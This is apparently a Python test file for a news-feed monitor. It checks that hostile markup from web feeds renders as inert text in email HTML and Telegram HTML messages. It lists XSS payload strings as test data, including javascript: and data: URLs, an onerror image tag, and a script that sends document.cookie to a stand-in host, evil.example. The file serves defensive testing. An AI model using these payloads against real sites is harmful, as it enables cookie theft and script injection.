"""Markup from the web stays inert: titles, links, snippets, feed names and error texts that try to close our
tags, open their own, run script or hide text render as plain words in mail HTML and Telegram HTML, and the
Telegram text stays valid for parse_mode=HTML (Telegram's tags only, balanced, plain http(s) links).

Checked twice: on the renderers directly, with every hostile field at once, and end to end, where a hostile
feed goes through `monitor run --once` to a real SMTP server and the local Bot API server.
"""

from __future__ import annotations

import html
import re
from datetime import datetime, timezone
from html.parser import HTMLParser
from xml.sax.saxutils import escape

import pytest

from monitor.models import Digest, DigestStory, FailingFeed
from monitor.delivery.email import render_html
from monitor.delivery.telegram import render_chunks
from tests.conftest import PROJECT, run_cli
from tests.support.fake_telegram import FakeTelegram
from tests.support.faultserver import feeds_yaml
from tests.support.localsite import LocalSite, Page, article_html
from tests.support.smtp_sink import SmtpSink

NOW = datetime(2026, 5, 1, 9, 30, tzinfo=timezone.utc)
HOSTILE = [
    '</a><a href="javascript:alert(1)">click me</a>',
    '<img src=x onerror="alert(document.cookie)">',
    "<tg-spoiler>hidden from the reader</tg-spoiler>",
    "<b><i>unbalanced <u>tags",
    "</i></b></h3></div></body>",
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    "&lt;already escaped&gt; &amp; &#x3C;numeric&#62; &bogus;",
    '<a href="https://evil.example/">a real-looking link</a>',
    "<span class=\"tg-spoiler\">spoiler</span><blockquote expandable>q</blockquote>",
]
BAD_URLS = [
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://news.example.org/a"onmouseover="alert(1)',
    "https://news.example.org/a'><script>alert(1)</script>",
    "https://news.example.org/a b<c>",
    "vbscript:msgbox(1)",
]


def hostile_digest() -> Digest:
    stories = []
    for i, text in enumerate(HOSTILE):
        snippet = f"Khorog {text} detained {text}"
        start = snippet.index("detained")
        stories.append(DigestStory(
            i + 1, f"Khorog {text}", BAD_URLS[i % len(BAD_URLS)], f"Feed {text}", NOW, (f"topic {text}",),
            (f"term {text}",), snippet, ((start, start + 8), (0, 6), (2, 4000)), 1.0 - i / 100,
            also_reported_by=((f"Other {text}", BAD_URLS[(i + 1) % len(BAD_URLS)]), (text, "https://ok.example/x"))))
    return Digest("digest", NOW, tuple(stories), updates=tuple(stories[:2]),
                  failing_feeds=(FailingFeed(f"Dead {HOSTILE[0]}", NOW, HOSTILE[1]),))


# --- validators -----------------------------------------------------------------------------------

TELEGRAM_TAGS = {"b", "strong", "i", "em", "u", "ins", "s", "strike", "del", "a", "code", "pre", "blockquote"}
TELEGRAM_ENTITIES = {"lt", "gt", "amp", "quot"}
SAFE_HREF = re.compile(r"^https?://[^\s\"'<>]+$", re.IGNORECASE)


class TelegramHTML(HTMLParser):
    """Telegram's parse_mode=HTML as a validator, stricter than Telegram: no tg-spoiler or span from the web."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.stack: list[str] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TELEGRAM_TAGS:
            self.errors.append(f"tag <{tag}> not allowed")
        names = [name for name, _ in attrs]
        if tag == "a":
            href = dict(attrs).get("href") or ""
            if names != ["href"] or not SAFE_HREF.match(href):
                self.errors.append(f"bad link {attrs!r}")
        elif names:
            self.errors.append(f"<{tag}> with attributes {attrs!r}")
        self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.errors.append(f"self-closing <{tag}/>")

    def handle_endtag(self, tag):
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"unbalanced </{tag}> (open: {self.stack})")
        else:
            self.stack.pop()

    def handle_data(self, data):
        if "<" in data or ">" in data:
            self.errors.append(f"raw angle bracket in {data[:60]!r}")

    def handle_entityref(self, name):
        if name not in TELEGRAM_ENTITIES:
            self.errors.append(f"entity &{name}; not allowed")

    def handle_comment(self, data):
        self.errors.append("comment")

    def handle_decl(self, decl):
        self.errors.append("declaration")


def telegram_errors(message: str) -> list[str]:
    parser = TelegramHTML()
    parser.feed(message)
    parser.close()
    return parser.errors + ([f"unclosed {parser.stack}"] if parser.stack else [])


MAIL_TAGS = {"html", "head", "meta", "title", "body", "h1", "h2", "h3", "div", "p", "a", "mark", "ul", "li", "hr"}


class MailHTML(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.errors: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in MAIL_TAGS:
            self.errors.append(f"tag <{tag}> from the web")
        for name, value in attrs:
            if name.startswith("on") or name not in ("href", "style", "dir", "charset"):
                self.errors.append(f"attribute {name}={value!r} on <{tag}>")
            if name == "href" and not SAFE_HREF.match(value or ""):
                self.errors.append(f"unsafe href {value!r}")
            if name == "style" and any(bad in (value or "").lower() for bad in ("url(", "expression", "javascript")):
                self.errors.append(f"style {value!r}")

    def handle_data(self, data):
        self.text.append(data)


def mail_check(page: str) -> tuple[list[str], str]:
    parser = MailHTML()
    parser.feed(page)
    parser.close()
    return parser.errors, "".join(parser.text)


# --- renderers -------------------------------------------------------------------------------------


def test_mail_html_keeps_every_hostile_string_as_visible_text():
    errors, text = mail_check(render_html(hostile_digest()))
    assert errors == []
    for hostile in ('<img src=x onerror="alert(document.cookie)">', "<tg-spoiler>hidden from the reader</tg-spoiler>",
                    '</a><a href="javascript:alert(1)">click me</a>'):
        assert hostile in text, hostile  # shown to the reader as the words it is, not run


@pytest.mark.parametrize("limit", [4096, 700])
def test_telegram_html_is_valid_and_inert_whole_and_split(limit):
    chunks = render_chunks(hostile_digest(), limit)
    assert len(chunks) >= (2 if limit == 700 else 1)
    for chunk in chunks:
        assert telegram_errors(chunk) == [], chunk
    visible = html.unescape(re.sub(r"<[^>]+>", "", "".join(chunks)))
    assert "<tg-spoiler>hidden from the reader</tg-spoiler>" in visible  # shown, not obeyed


def test_the_validator_itself_catches_what_it_must():
    assert telegram_errors('<a href="javascript:x">x</a>') and telegram_errors("<b><i>x</b></i>")
    assert telegram_errors("<tg-spoiler>x</tg-spoiler>") and telegram_errors("<b>x") and telegram_errors("a < b")
    assert telegram_errors('<a href="https://x.example/" onclick="y">x</a>')
    assert telegram_errors("&nbsp;") and not telegram_errors('<b>ok</b> <a href="https://x.example/a?b=1&amp;c=2">l</a>')
    assert mail_check('<p onclick="x">x</p>')[0] and mail_check("<img src=x>")[0]


# --- end to end ------------------------------------------------------------------------------------


def test_a_hostile_feed_reaches_mail_and_telegram_as_inert_text(tmp_path):
    body = ["Security forces detained a Pamiri activist in Khorog, GBAO, on Monday, relatives said; "
            "his phone and laptop were taken during a night search of the family home.",
            "Rights defenders say the detention is part of a campaign against Pamiri activists since 2022."]
    with LocalSite() as site, SmtpSink() as sink, FakeTelegram() as tg:
        site.add("/a1", article_html("x", body))
        site.add("/a2", article_html("y", [
            "A Pamiri poet was detained at a checkpoint outside Khorog on Thursday as he returned from Dushanbe, "
            "according to two witnesses who saw officers of the GKNB take him from a shared taxi.",
            "His relatives in GBAO were told he is suspected of posting a poem about the 2022 crackdown."]))
        items = [
            (f"Activist detained in Khorog {HOSTILE[0]} {HOSTILE[1]}", site.url("/a1")),
            (f"Poet detained in Khorog {HOSTILE[2]} {HOSTILE[3]}", site.url("/a2") + '?q="><script>alert(1)</script>'),
        ]
        # escaped twice: a title whose *text* is markup (a title's real tags are dropped when the feed is read)
        xml = "".join(f"<item><title>{escape(html.escape(t))}</title><link>{escape(u)}</link><description>{escape(HOSTILE[5])}"
                      f"{escape(' '.join(body))}</description></item>" for t, u in items)
        site.add("/feed.xml", Page(f"<?xml version='1.0'?><rss version='2.0'><channel><title>t</title>{xml}"
                                   "</channel></rss>".encode(), content_type="application/rss+xml"))
        feeds = feeds_yaml(tmp_path / "feeds.yaml", [('Hostile </b><tg-spoiler>feed', site.url("/feed.xml"))],
                       settings="  timeout: 15\n")
        result = run_cli("run", "--once", "--feeds", str(feeds), "--keywords", str(PROJECT / "keywords.yaml"),
                         "--state", str(tmp_path / "state.db"), env={**sink.env(), **tg.env()})
        assert result.returncode == 0, result.stderr
        assert "markup refused" not in result.stderr, "Telegram had to fall back to plain text"
    assert sink.count >= 1 and tg.messages, result.stderr
    for message in sink.messages:
        errors, text = mail_check(message.get_body(("html",)).get_content())
        assert errors == [] and "onerror" in text and "Activist detained in Khorog" in text
    for message in tg.messages:
        assert message.get("parse_mode") == "HTML"
        assert telegram_errors(message["text"]) == [], message["text"]
    assert any("<tg-spoiler>" in m["visible"] for m in tg.messages), "the web's tags are shown as text"
